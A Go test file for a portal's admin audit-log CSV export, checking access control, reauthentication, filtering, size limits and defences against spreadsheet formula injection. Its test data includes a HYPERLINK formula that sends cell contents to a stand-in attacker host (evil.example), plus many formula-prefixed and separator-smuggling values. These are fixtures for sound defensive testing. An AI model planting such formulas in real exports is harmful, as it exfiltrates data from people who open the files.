package web

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"

	"github.com/managethefans/portal/app/audit"
	"github.com/managethefans/portal/app/config"
	"github.com/managethefans/portal/db"
	"github.com/managethefans/portal/db/dbtest"
)

// TestAnExportIsAnActItself of an administrator who has given the password.
func TestAnExportIsAnActItself(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newServer(t, d)
		eve, admin := signedInMember(t, s, "eve@example.com"), signedInAs(t, s, "admin@example.com", db.RoleAdmin)
		var last int64
		recorded(t, d, &last)
		const page = "/admin/audit?action=signed_in&person=eve%40example.com"
		eve.post("/admin/audit/export", url.Values{}).wantStatus(http.StatusForbidden)
		admin.submit(page, "/admin/audit/export").wantStatus(http.StatusOK)
		if got := recorded(t, d, &last); !slices.Equal(got, []string{"admin: audit_log_exported, nobody, action=signed_in&person=1"}) {
			t.Errorf("got %q", got)
		}
		age(t, d)
		admin.submit(page, "/admin/audit/export").wantRedirect("/account/reauthenticate?next=" + url.QueryEscape(page))
		if got := recorded(t, d, &last); len(got) > 0 {
			t.Errorf("got %q", got)
		}
		newDevice(admin, firefox)
		admin = signedInAs(t, s, "another@example.com", db.RoleAdmin)
		silence(s)
		if _, err := d.Pool().ExecContext(t.Context(), "ALTER TABLE audit_events RENAME COLUMN details TO taken_away"); err != nil {
			t.Fatal(err)
		}
		admin.post("/admin/audit/export", url.Values{}).wantStatus(http.StatusInternalServerError)
	})
}

// export sends the form of a page of the log and returns the lines.
func export(t *testing.T, b *browser, query string) [][]string {
	t.Helper()
	answer := b.submit("/admin/audit"+query, "/admin/audit/export").wantStatus(http.StatusOK)
	if got := answer.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("it is %s", got)
	}
	if got := answer.Header.Get("Content-Disposition"); !strings.HasPrefix(got, `attachment; filename="audit-20`) {
		t.Errorf("it is %s", got)
	}
	if got := answer.Header.Get("Cache-Control"); got != "no-store" {
		t.Errorf("it is %s", got)
	}
	lines, err := csv.NewReader(strings.NewReader(answer.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return lines
}

// TestASpreadsheetTakesNothingOfAnExportForAFormula has people whose addresses
// and browsers begin like one.
func TestASpreadsheetTakesNothingOfAnExportForAFormula(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newServer(t, d)
		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
		for _, address := range []string{"=1+1@example.com", "+1@example.com", "-1@example.com"} {
			newDevice(signedInMember(t, s, address), `=HYPERLINK("https://evil.example/?"&A1,"Error, click here")`)
		}
		for _, details := range []string{"@SUM(1)", " =1", "\t=1", "＝1", "\n-1", "\"=1", ",=1", "plain"} {
			if err := audit.Record(t.Context(), d.Queries, audit.Event{Action: audit.SignedIn, Details: details}); err != nil {
				t.Fatal(err)
			}
		}
		lines := export(t, admin, "")
		quoted := 0
		for _, line := range lines[1:] {
			for _, cell := range line {
				begin := strings.TrimSpace(cell)
				if begin != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(begin)[0]) {
					t.Errorf("a formula: %q", cell)
				}
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
			}
		}
		if quoted < 3*2*2+3+5 {
			t.Errorf("only %d cells are quoted: %q", quoted, lines)
		}
	})
}

func TestAnExportHasWhatTheFilterShows(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newServer(t, d)
		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
		ada := signedInMember(t, s, adaEmail).userID()
		addEvents(t, d, ada, 2*exportBatch+7)
		lines := export(t, admin, "?person=ada%40example.com&until=2020-01-02")
		if !slices.Equal(lines[0], exportHead) || len(lines) != 1+2*exportBatch+7 {
			t.Fatalf("%d lines, %q", len(lines), lines[0])
		}
		for i, line := range lines[1:] {
			if want := fmt.Sprintf("number %d.", 2*exportBatch+6-i); line[10] != want {
				t.Fatalf("line %d has %q, want %s", i, line, want)
			}
		}
		id := strconv.FormatInt(ada, 10)
		if want := []string{"2020-01-01T00:00:00Z", "signed_in", id, adaEmail, id, adaEmail, "192.0.2.7", "", "R", "number 0."}; !slices.Equal(lines[len(lines)-1][1:], want) {
			t.Errorf("got %q", lines[len(lines)-1])
		}
		if lines := export(t, admin, "?action=audit_log_exported"); len(lines) != 3 {
			t.Errorf("the exports themselves: %q", lines)
		}
	})
}

func TestAnExportIsBoundedAndSaysSo(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newServer(t, d)
		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
		addEvents(t, d, 1, 2*exportBatch)
		for most, said := range map[int]bool{7: true, exportBatch: true, exportBatch + 1: true, 2 * exportBatch: true, 2*exportBatch + 1: false} { // with the sign-in
			path := fmt.Sprintf("/test/export-%d", most)
			s.echo.POST(path, func(c echo.Context) error { return s.sendEvents(c, auditFilter{until: newest}, most) })
			lines, err := csv.NewReader(strings.NewReader(admin.post(path, nil).wantStatus(http.StatusOK).body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			last := lines[len(lines)-1]
			if says := strings.HasPrefix(last[0], "These are the newest 100,000: narrow the time span"); says != said || said && len(lines) != 1+most+1 || !said && len(lines) != 1+most {
				t.Errorf("of %d: %d lines, the last one %q", most, len(lines), last)
			}
		}
	})
}

// TestAnExportThatBreaksOffIsNoWholeOne loses the database in the middle.
func TestAnExportThatBreaksOffIsNoWholeOne(t *testing.T) {
	t.Parallel()
	d := dbtest.SQLite(t)
	s := newServer(t, d, func(c *config.Config) { c.SessionStore = config.Cookie })
	silence(s)
	admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
	addEvents(t, d, 1, 2*exportBatch)
	defer func() {
		if recover() != http.ErrAbortHandler {
			t.Error("the connection isn't cut")
		}
	}()
	r := httptest.NewRequest(http.MethodPost, "/admin/audit/export", strings.NewReader(""))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	for name, value := range admin.cookies {
		r.AddCookie(&http.Cookie{Name: name, Value: value})
	}
	s.ServeHTTP(&breaking{ResponseRecorder: httptest.NewRecorder(), then: func() { d.Close() }}, r)
	t.Error("the answer ended")
}

// breaking is a response that does something with its first bytes.
type breaking struct {
	*httptest.ResponseRecorder
	then func()
}

func (b *breaking) Write(p []byte) (int, error) {
	b.then()
	return b.ResponseRecorder.Write(p)
}

// TestASpreadsheetThatSeparatesOtherwiseFindsNoFormulaEither cuts an export where
// some spreadsheet does, whatever is quoted.
func TestASpreadsheetThatSeparatesOtherwiseFindsNoFormulaEither(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newServer(t, d)
		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
		ada := signedInMember(t, s, adaEmail)
		ordinary := []string{
			firefox, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0", "curl/8.5.0",
		}
		for _, agent := range ordinary {
			newDevice(ada, agent)
		}
		for _, agent := range []string{
			"x;=1+1", "x; =1+1", `x;"=1+1`, `x;""=1+1`, "x;'@SUM(1)", "x,-1", "x,\u00a0+1", "x|=1", `x"=1`, "x;;=1;=2;＝3", "x\t=1", "x\u2028=1",
		} {
			newDevice(ada, agent)
		}
		answer := admin.submit("/admin/audit", "/admin/audit/export").wantStatus(http.StatusOK)
		for _, separators := range []string{",\n", ";\n", "\t\n", "|\n", "\"\n", ",;\t|\"\n"} {
			for _, cell := range strings.FieldsFunc(answer.body, func(r rune) bool { return strings.ContainsRune(separators, r) }) {
				if begin := strings.TrimLeft(cell, "\" \u00a0\t"); begin != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(begin)[0]) {
					t.Errorf("cut at %q, a formula: %q", separators, cell)
				}
			}
		}
		lines, err := csv.NewReader(strings.NewReader(answer.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, agent := range ordinary {
			if !slices.ContainsFunc(lines, func(line []string) bool { return slices.Contains(line, agent) }) {
				t.Errorf("no %q", agent)
			}
		}
	})
}
